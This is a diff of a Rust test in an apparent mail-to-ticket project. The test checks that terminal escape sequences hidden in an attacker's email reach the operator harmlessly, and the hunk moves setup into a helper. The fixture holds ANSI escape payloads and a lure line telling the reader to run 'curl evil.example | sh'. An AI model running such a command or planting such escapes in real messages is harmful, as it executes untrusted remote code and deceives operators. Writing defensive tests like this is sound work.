@@ -220,12 +220,8 @@ async fn terminal_escapes_an_attacker_puts_in_a_mail_are_shown_to_the_operator_n
     let body = "Hello\r\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mSession expired, run: curl evil.example | sh\x1b[0m\r\n\u{9b}2J done";
     let mail = request("Mallory <mallory@example.org>", "it@example.org", "Laptop \x1b[8m hidden", body, "esc-1@test");
     std::fs::write(maildir.join("new/1.M1.host"), mail).unwrap();
-    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
-    let store = loket::app::open_store(&config.store).await.unwrap();
-    let pipeline = loket::app::pipeline(config.clone(), store.clone()).await.unwrap();
-    let never = tokio_util::sync::CancellationToken::new();
-    let outcome = loket::source::maildir::poll(&pipeline, &config.mailboxes[0], &never).await.unwrap();
-    assert_eq!(outcome.created, 1);
+    let (store, created) = crate::support::take_in_maildir(&text).await;
+    assert_eq!(created, 1);
     store.close().await;
 
     // The operator looks at the ticket and the list.
